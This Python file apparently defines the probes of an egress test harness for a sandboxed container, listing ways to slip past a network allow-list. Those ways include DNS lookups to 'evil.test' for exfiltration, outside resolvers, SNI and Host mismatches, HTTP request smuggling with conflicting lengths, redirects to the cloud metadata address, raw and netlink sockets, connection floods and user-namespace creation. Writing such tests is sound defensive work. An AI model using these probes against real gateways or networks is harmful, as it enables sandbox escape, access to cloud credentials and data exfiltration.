"""What attack.py tries: name -> how. `tries`, sockets and helpers come from there."""

WWW = 'www.example.test'
OTHER = '198.51.100.12'

# Names
tries['an unlisted name'] = lambda: resolve('evil.test')
tries['an unlisted name, in capitals'] = lambda: resolve('EVIL.TEST')
tries['an unlisted name, with a dot'] = lambda: resolve('evil.test.')
tries['a name that only ends alike'] = lambda: resolve('xexample.test')
tries['a suffix of the allowed name'] = lambda: resolve('example.test.evil.test')
tries['a listed name, in capitals'] = lambda: resolve('WWW.Example.TEST') == resolve(WWW)
tries['a look-alike of another script'] = lambda: resolve('www.ex\u0430mple.test')
tries['the same as punycode'] = lambda: resolve('www.xn--exmple-4nf.test')
tries['AAAA of a listed name'] = lambda: asked(question(WWW, 28))
tries['MX of a listed name'] = lambda: asked(question(WWW, 15))
tries['TXT of a listed name'] = lambda: asked(question(WWW, 16))
tries['HTTPS of a listed name'] = lambda: asked(question(WWW, 65))
tries['ANY of a listed name'] = lambda: asked(question(WWW, 255))
tries['TXT below an unlisted name'] = lambda: asked(question('c2VjcmV0.evil.test', 16))
tries['letters of both cases'] = lambda: asked(question('wWw.eXaMpLe.TeSt'))
tries['a compressed name'] = lambda: asked(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\xc0\x0c\0\1\0\1')
tries['a name with a zero in it'] = lambda: asked(question('www\0.example.test'))
tries['two questions'] = lambda: asked(struct.pack('>HHHHHH', 7, 0x100, 2, 0, 0, 0) + question(WWW)[12:] + question('evil.test')[12:])
tries['EDNS that asks for 65535 bytes'] = lambda: asked(question(WWW, 1, 7, b'\0' + struct.pack('>HHIH', 41, 65535, 0, 0), 1))
tries['EDNS of another version'] = lambda: asked(question(WWW, 1, 7, b'\0' + struct.pack('>HHIH', 41, 1232, 1 << 16, 0), 1))
tries['another resolver over UDP'] = lambda: asked(question('leak1.evil.test'), OTHER)
tries['another resolver over TCP'] = lambda: asked_tcp(question('leak2.evil.test'), OTHER)
tries['DNS over TLS'] = lambda: talk(OTHER, 853)
tries['DNS over HTTPS by address'] = lambda: talk(OTHER, 443, hello(None))


def garbage():
    for _ in range(2000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(os.urandom(40), ('127.0.0.1', 53))
    with connect('127.0.0.1', 53) as conn:
        conn.sendall(os.urandom(4000))
    # What is left of the flood may still be in the queue.
    time.sleep(1)
    return asked(question(WWW))


tries['garbage instead of questions'] = garbage

# Addresses
tries['an address, listed port'] = lambda: talk(OTHER, 443, hello(WWW))
tries['an address, port 80'] = lambda: talk(OTHER, 80, b'GET / HTTP/1.1\r\nHost: www.example.test\r\n\r\n')
tries['an address, unlisted port'] = lambda: talk(OTHER, 4444)
tries['a listed name, unlisted port'] = lambda: talk(WWW, 4444)
tries['an IPv6 address'] = lambda: talk('2001:db8:77::10', 443)
tries['an IPv4 address in an IPv6 one'] = lambda: talk('::ffff:198.51.100.12', 443, hello(WWW))
tries['a name address that stands for nothing'] = lambda: talk('198.18.77.77', 443, hello(WWW))
tries['the metadata service by address'] = lambda: talk('169.254.169.254', 80, b'GET / HTTP/1.0\r\n\r\n')
tries['the listener itself'] = lambda: talk('127.0.0.1', 61001, b'GET / HTTP/1.1\r\nHost: www.example.test\r\n\r\n')
tries['the listener by another address'] = lambda: talk(OTHER, 61001)
for name in ['meta', 'lan', 'carrier', 'lo', 'zero', 'self', 'self6', 'lo6', 'mapped', 'nat64', 'local6', 'fake', 'broken']:
    tries['443 of ' + name] = lambda name=name: talk(name + '.example.test', 443, hello(name + '.example.test'))
    tries['80 of ' + name] = lambda name=name: http(name + '.example.test', 'GET / HTTP/1.1\nHost: %s.example.test\n\n' % name)
tries['a name with good and bad addresses'] = lambda: tls('mixed.example.test', 'mixed.example.test')

# TLS
tries['the right server name'] = lambda: tls(WWW, WWW)
tries['another server name'] = lambda: tls(WWW, 'evil.test')
tries['the server name of another allowed host'] = lambda: tls(WWW, 'api.example.test')
tries['no server name'] = lambda: talk(WWW, 443, hello(None))
tries['no TLS'] = lambda: talk(WWW, 443, b'SSH-2.0-OpenSSH_9.9\r\n')
tries['HTTP in place of TLS'] = lambda: talk(WWW, 443, b'GET / HTTP/1.1\r\nHost: www.example.test\r\n\r\n')
tries['an encrypted hello'] = lambda: talk(WWW, 443, with_extension(hello(WWW), 0xfe0d))
tries['a hello byte by byte'] = lambda: slowly(WWW, 443, hello(WWW))
tries['a wrong hello byte by byte'] = lambda: slowly(WWW, 443, hello('evil.test'))
tries['a hello in small records'] = lambda: 'answered' if talk(WWW, 443, split_hello(hello(WWW), 7)) else ''
tries['a wrong hello in small records'] = lambda: talk(WWW, 443, split_hello(hello('evil.test'), 7))
tries['two hellos, the second for another host'] = lambda: talk(WWW, 443, hello('evil.test')[:5] + hello(WWW))
tries['TLS for another host on an unlisted protocol port'] = lambda: talk(WWW, 9002, hello('evil.test'))
tries['HTTP/2 for the right host'] = lambda: tls(WWW, WWW, alpn=['h2'])
tries['residual: :authority of HTTP/2 unlike the server name'] = lambda: http2(WWW, 'evil.test')
tries['residual: Host inside TLS'] = lambda: tls(WWW, WWW, host='evil.test')
tries['residual: a name of the allowed zone that points elsewhere'] = lambda: tls('steal.example.test', 'steal.example.test')

# HTTP
GET = 'GET / HTTP/1.1\nHost: '
tries['the right Host'] = lambda: http(WWW, GET + WWW + '\n\n')
tries['another Host'] = lambda: http(WWW, GET + 'evil.test\n\n')
tries['no Host'] = lambda: http(WWW, 'GET / HTTP/1.1\n\n')
tries['two Hosts'] = lambda: http(WWW, GET + WWW + '\nHost: evil.test\n\n')
tries['a Host with another port'] = lambda: http(WWW, GET + WWW + ':8080\n\n')
tries['a Host in a user part'] = lambda: http(WWW, GET + 'evil.test@' + WWW + '\n\n')
tries['an absolute target'] = lambda: http(WWW, 'GET http://evil.test/ HTTP/1.1\nHost: ' + WWW + '\n\n')
tries['an absolute target for the right host'] = lambda: http(WWW, 'GET http://www.example.test/ HTTP/1.1\nHost: ' + WWW + '\n\n')
tries['CONNECT'] = lambda: http(WWW, 'CONNECT evil.test:443 HTTP/1.1\nHost: ' + WWW + '\n\n')
tries['both lengths'] = lambda: http(WWW, 'POST / HTTP/1.1\nHost: www.example.test\nContent-Length: 4\nTransfer-Encoding: chunked\n\n', b'0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')
tries['two lengths'] = lambda: http(WWW, 'POST / HTTP/1.1\nHost: www.example.test\nContent-Length: 0\nContent-Length: 40\n\n', b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')
tries['a coding in disguise'] = lambda: http(WWW, 'POST / HTTP/1.1\nHost: www.example.test\nTransfer-Encoding: xchunked\n\n', b'0\r\n\r\n')
tries['a space before the colon'] = lambda: http(WWW, 'POST / HTTP/1.1\nHost: www.example.test\nTransfer-Encoding : chunked\n\n', b'0\r\n\r\n')
tries['a folded header'] = lambda: http(WWW, 'GET / HTTP/1.1\nHost: www.example.test\nX-A: b\n Host: evil.test\n\n')
tries['bare line feeds'] = lambda: status(talk(WWW, 80, b'GET / HTTP/1.1\nHost: www.example.test\n\nGET / HTTP/1.1\nHost: evil.test\n\n'))
tries['a second request for another host'] = lambda: both_answers()
tries['HTTP/2 with prior knowledge'] = lambda: http(WWW, 'PRI * HTTP/2.0\n\nSM\n\n')
tries['an upgrade to h2c'] = lambda: http(WWW, GET + WWW + '\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAAP__\n\n')
tries['Connection: host'] = lambda: http(WWW, GET + WWW + '\nConnection: host\n\n')
INNER = b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'
for method in ['GET', 'DELETE']:
    tries['a request in the body of a ' + method] = lambda method=method: http(WWW, method + ' / HTTP/1.1\nHost: www.example.test\nConnection: transfer-encoding\nTransfer-Encoding: chunked\n\n', b'%x\r\n%s\r\n0\r\n\r\n' % (len(INNER), INNER))
for place in ['lan.example.test', '10.99.0.5', 'meta.example.test', '169.254.169.254', 'evil.test', '127.0.0.1:61001']:
    tries['a redirect to ' + place] = lambda place=place: followed('http://%s/' % place)

# Other protocols
tries['QUIC to a listed name'] = lambda: udp(WWW, 443)
tries['UDP to an address'] = lambda: udp(OTHER, 4444)
tries['a ping socket'] = lambda: made(socket.AF_INET, socket.SOCK_DGRAM, 1) and udp_ping()
tries['a raw socket'] = lambda: made(socket.AF_INET, socket.SOCK_RAW, 1)
tries['a packet socket'] = lambda: made(17, socket.SOCK_RAW, 3)
tries['vsock'] = lambda: made(40, socket.SOCK_STREAM)
tries['a mark on a socket'] = lambda: marked()
tries['netfilter over netlink'] = lambda: netfilter()
tries['another address on lo'] = lambda: rtnetlink()
tries['a name service port of our own'] = lambda: bound(53)
tries['the gateway\'s listener port'] = lambda: bound(61001)
tries['the host service'] = lambda: talk('db.host.ct', 9001)
tries['another port of the host service'] = lambda: talk('db.host.ct', 80, b'GET / HTTP/1.0\r\n\r\n')
tries['an unlisted host service'] = lambda: resolve('web.host.ct')
tries['protocols in which the server speaks first'] = lambda: talk(WWW, 9001).strip()
tries['a first word of a megabyte'] = lambda: len(whole(WWW, 9000, b'x' * (1 << 20)))
tries['a flood of connections'] = lambda: flood()
tries['say, shut down, listen'] = lambda: talk(WWW, 9000, b'hello', True)


def followed(target):
    """What a client that follows redirects gets from an allowed host that sends it elsewhere."""
    try:
        return urllib.request.urlopen('http://www.example.test/redirect?to=' + target, timeout=5).status
    except urllib.error.HTTPError as error:
        return error.code
    except urllib.error.URLError as error:
        return outcome(error.reason)


def http2(name, authority):
    """Status of a request whose :authority is another host than the server name, as one byte of HPACK."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(['h2'])
    with connect(name, 443) as raw, context.wrap_socket(raw, server_hostname=name) as conn:
        # GET, /, https from the static table; :authority as a literal. Sources: RFC 9113, RFC 7541 A
        block = b'\x82\x84\x87\x41' + bytes([len(authority)]) + authority.encode()
        conn.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0) + frame(1, 5, 1, block))
        data = b''
        while chunk := conn.recv(65536):
            data += chunk
            while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], 'big'):
                size = 9 + int.from_bytes(data[:3], 'big')
                kind, body, data = data[3], data[9:size], data[size:]
                if kind == 1:
                    return 'status 200' if body[0] == 0x88 else 'status %02x' % body[0]
        return 'closed'


def frame(kind, flags, stream, body=b''):
    return len(body).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + body


def flood():
    """More connections than a port takes at once: the rest is reset, and afterwards all is as before."""
    conns, refused = [], 0
    for _ in range(700):
        try:
            conns.append(connect(WWW, 443))
        except OSError:
            refused += 1
    for conn in conns:
        conn.close()
    time.sleep(1)
    return [400 < len(conns) <= 512, refused + len(conns), tls(WWW, WWW)]


def whole(host, port, data):
    with connect(host, port) as conn:
        conn.sendall(data)
        conn.shutdown(socket.SHUT_WR)
        text = b''
        while chunk := conn.recv(65536):
            text += chunk
        return text


def both_answers():
    with connect(WWW, 80) as conn:
        conn.sendall(b'GET /one HTTP/1.1\r\nHost: www.example.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n')
        conn.shutdown(socket.SHUT_WR)
        text = b''
        while chunk := conn.recv(65536):
            text += chunk
        return ' '.join(line.split()[1] for line in text.decode('latin1').split('\r\n') if line.startswith('HTTP/1.1 '))


def udp_ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as sock:
        sock.settimeout(2)
        sock.sendto(b'\x08\0\0\0\0\0\0\0', (OTHER, 0))
        return str(len(sock.recv(100)))


def marked():
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, 36, 1)
        return 'marked'


def netfilter():
    with socket.socket(16, socket.SOCK_RAW, 12) as sock:
        sock.send(struct.pack('=IHHIIBBH', 20, 0x0a02, 0x305, 1, 0, 1, 0, 0))
        return 'answered' if struct.unpack('=i', sock.recv(4096)[16:20])[0] == 0 else 'EPERM'


def rtnetlink():
    with socket.socket(16, socket.SOCK_RAW, 0) as sock:
        body = struct.pack('=BBBBi', 2, 32, 0, 0, 1) + struct.pack('=HH4s', 8, 2, socket.inet_aton('10.64.0.9'))
        sock.send(struct.pack('=IHHII', 16 + len(body), 20, 0x605, 1, 0) + body)
        return errno.errorcode.get(-struct.unpack('=i', sock.recv(4096)[16:20])[0], 'done')


def bound(port):
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(('127.0.0.1', port))
        return 'bound'


def unshared():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    return 'made' if libc.unshare(0x10000000 | 0x40000000) == 0 else errno.errorcode[ctypes.get_errno()]


# Last: where it works, this process is elsewhere afterwards.
tries['a user namespace'] = lambda: unshared()
